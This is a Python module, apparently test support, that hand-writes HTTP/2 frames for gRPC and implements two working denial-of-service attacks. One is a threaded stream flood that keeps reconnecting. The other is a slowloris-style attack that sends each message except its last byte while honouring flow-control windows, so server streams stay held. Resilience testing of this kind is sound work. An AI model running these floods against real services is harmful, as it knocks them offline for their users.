"""HTTP/2 by hand, for callers that break its rules or its spirit."""

from __future__ import annotations

import socket
import threading
import time
from collections.abc import Callable, Mapping
from contextlib import suppress
from types import TracebackType
from typing import Self

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"

_DATA, _HEADERS, _RST_STREAM, _SETTINGS, _PING, _WINDOW_UPDATE = 0, 1, 3, 4, 6, 8
_ACK = 1
_FRAME_HEAD = 9
_CANCEL = 8
# How many calls a flood writes at a time, and when it needs another connection.
_AT_ONCE = 50
_LAST_STREAM = 1_000_000
PATIENCE = 30.0
_END_STREAM, _END_HEADERS = 1, 4
_INITIAL_WINDOW = 4


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """Return a frame (RFC 9113, section 4.1)."""
    return len(payload).to_bytes(3) + bytes((kind, flags)) + stream.to_bytes(4) + payload


def settings(*, window: int) -> bytes:
    """Return settings that let the other side send so many bytes of data on each stream."""
    return frame(_SETTINGS, 0, 0, _INITIAL_WINDOW.to_bytes(2) + window.to_bytes(4))


def request(stream: int, path: str, token: str, message: bytes) -> bytes:
    """Return a unary gRPC call."""
    body = b"\0" + len(message).to_bytes(4) + message
    return begin(stream, path, token) + frame(_DATA, _END_STREAM, stream, body)


def _call_headers(path: str, token: str) -> dict[str, str]:
    headers = {
        ":method": "POST",
        ":scheme": "http",
        ":path": path,
        ":authority": "localhost",
        "content-type": "application/grpc",
        "te": "trailers",
    }
    return headers | ({"authorization": f"Bearer {token}"} if token else {})


def _literal(headers: Mapping[str, str]) -> bytes:
    """Write headers without any compression (RFC 7541, section 6.2.2); texts are shorter than 127 bytes."""
    pairs = ((name.encode("ascii"), value.encode("ascii")) for name, value in headers.items())
    return b"".join(b"\0" + bytes((len(name),)) + name + bytes((len(value),)) + value for name, value in pairs)


def connect(address: str) -> socket.socket:
    """Open a connection."""
    host, _, port = address.rpartition(":")
    return socket.create_connection((host, int(port)))


def closed_by_the_server(connection: socket.socket, seconds: float) -> bool:
    """Read until the server closes a connection; False when it does not in time."""
    connection.settimeout(seconds)
    try:
        while connection.recv(4096):
            pass
    except TimeoutError:
        return False
    except ConnectionError:
        return True
    return True


def begin(stream: int, path: str, token: str = "", *, end: bool = False) -> bytes:
    """Return the beginning of a gRPC call, without a message; with `end` nothing more follows."""
    flags = _END_HEADERS | (_END_STREAM if end else 0)
    return frame(_HEADERS, flags, stream, _literal(_call_headers(path, token)))


def reset(stream: int) -> bytes:
    """Return the end of a stream by its caller."""
    return frame(_RST_STREAM, 0, stream, _CANCEL.to_bytes(4))


class Flood:
    """Begins calls on connections of its own as fast as the server reads them, until it is stopped.

    `said` returns the bytes of one call on a stream; a connection that is closed, or has used up its streams, is made
    anew. With `hold`, so many calls of each connection are begun each second, for those that the server has ended.
    """

    def __init__(
        self,
        connect_once: Callable[[], socket.socket],
        said: Callable[[int], bytes],
        *,
        connections: int,
        hold: int = 0,
    ) -> None:
        self._connect, self._said, self._hold = connect_once, said, hold
        self._stopping = threading.Event()
        self._threads = [threading.Thread(target=self._run, daemon=True) for _ in range(connections)]
        self.sent = 0

    def __enter__(self) -> Self:
        for thread in self._threads:
            thread.start()
        return self

    def __exit__(
        self, kind: type[BaseException] | None, error: BaseException | None, trace: TracebackType | None
    ) -> None:
        self._stopping.set()
        for thread in self._threads:
            thread.join()

    def _run(self) -> None:
        while not self._stopping.is_set():
            with suppress(OSError), self._connect() as connection:
                self._flood(connection)

    def _flood(self, connection: socket.socket) -> None:
        connection.sendall(PREFACE + settings(window=65535))
        # So many at a time, and what the server says in between is read, so that it goes on reading.
        many, pause = (self._hold, 1.0) if self._hold else (_AT_ONCE, 0.001)
        for first in range(1, _LAST_STREAM, 2 * many):
            connection.settimeout(PATIENCE)
            connection.sendall(b"".join(self._said(stream) for stream in range(first, first + 2 * many, 2)))
            self.sent += many
            until = time.monotonic() + pause
            while not self._stopping.is_set() and (left := until - time.monotonic()) > 0:
                connection.settimeout(left)
                with suppress(TimeoutError):
                    if not connection.recv(1 << 16):
                        return
            if self._stopping.is_set():
                return


class HalfSent:
    """Begins calls on connections of its own and sends the message of each but for its last byte, until it is stopped.

    `begin_call` returns the bytes that begin one on a stream, and `size` is what a message says that it has; `before`
    is sent whole. Each connection keeps `calls` of them, and begins others for those that the server ends.
    """

    def __init__(
        self,
        connect_once: Callable[[], socket.socket],
        begin_call: Callable[[int], bytes],
        *,
        size: int,
        connections: int,
        calls: int,
        before: bytes = b"",
    ) -> None:
        self._connect, self._begin, self._calls = connect_once, begin_call, calls
        self._message = before + b"\0" + size.to_bytes(4) + bytes(size - 1)
        self._stopping = threading.Event()
        self._threads = [threading.Thread(target=self._run, daemon=True) for _ in range(connections)]
        self.sent = 0

    def __enter__(self) -> Self:
        for thread in self._threads:
            thread.start()
        return self

    def __exit__(
        self, kind: type[BaseException] | None, error: BaseException | None, trace: TracebackType | None
    ) -> None:
        self._stopping.set()
        for thread in self._threads:
            thread.join()

    def _run(self) -> None:
        while not self._stopping.is_set():
            with suppress(OSError), self._connect() as connection:
                _Halves(connection, self._message).keep(self)

    def next_call(self, stream: int) -> bytes:
        """Return what begins a call, and count it."""
        self.sent += 1
        return self._begin(stream)

    @property
    def calls(self) -> int:
        """Return how many calls a connection keeps."""
        return self._calls

    @property
    def stopping(self) -> bool:
        """Say whether it is over."""
        return self._stopping.is_set()


class _Halves:
    """One connection whose calls are sent in part, as far as the windows of the server let it (RFC 9113, 5.2)."""

    def __init__(self, connection: socket.socket, message: bytes) -> None:
        self._connection, self._message = connection, message
        self._received = b""
        self._next_stream = 1
        # Of the connection (0) and of each stream, how much the server lets come; and how much of each was sent.
        self._windows = {0: 65535}
        self._first_window = 65535
        self._sent: dict[int, int] = {}

    def keep(self, attack: HalfSent) -> None:
        """Begin calls and send their messages until the attack is over, or the connection."""
        self._connection.sendall(PREFACE + settings(window=65535))
        while not attack.stopping and self._next_stream < _LAST_STREAM:
            while len(self._sent) < attack.calls:
                self._connection.sendall(attack.next_call(self._next_stream))
                self._sent[self._next_stream], self._windows[self._next_stream] = 0, self._first_window
                self._next_stream += 2
            for stream in self._sent:
                self._send(stream)
            self._connection.settimeout(0.05)
            with suppress(TimeoutError):
                received = self._connection.recv(1 << 20)
                if not received:
                    return
                self._received += received
            self._connection.settimeout(PATIENCE)
            self._read_frames()

    def _send(self, stream: int) -> None:
        while room := min(1 << 14, len(self._message) - self._sent[stream], self._windows[0], self._windows[stream]):
            if room < 0:
                return
            start = self._sent[stream]
            self._connection.sendall(frame(_DATA, 0, stream, self._message[start : start + room]))
            self._sent[stream] += room
            self._windows[0] -= room
            self._windows[stream] -= room

    def _read_frames(self) -> None:
        while len(self._received) >= _FRAME_HEAD:
            end = _FRAME_HEAD + int.from_bytes(self._received[:3])
            if len(self._received) < end:
                return
            kind, flags = self._received[3], self._received[4]
            stream = int.from_bytes(self._received[5:9]) & 0x7FFFFFFF
            self._read(kind, flags, stream, self._received[_FRAME_HEAD:end])
            self._received = self._received[end:]

    def _read(self, kind: int, flags: int, stream: int, payload: bytes) -> None:
        if kind == _WINDOW_UPDATE and stream in self._windows:
            self._windows[stream] += int.from_bytes(payload)
        elif kind == _RST_STREAM or (kind in {_DATA, _HEADERS} and flags & _END_STREAM):
            self._sent.pop(stream, None)
            self._windows.pop(stream, None)
        elif kind == _PING and not flags & _ACK:
            self._connection.sendall(frame(_PING, _ACK, 0, payload))
        elif kind == _SETTINGS and not flags & _ACK:
            for place in range(0, len(payload), 6):
                if int.from_bytes(payload[place : place + 2]) == _INITIAL_WINDOW:
                    self._resize(int.from_bytes(payload[place + 2 : place + 6]))
            self._connection.sendall(frame(_SETTINGS, _ACK, 0))

    def _resize(self, window: int) -> None:
        for stream in self._sent:
            self._windows[stream] += window - self._first_window
        self._first_window = window
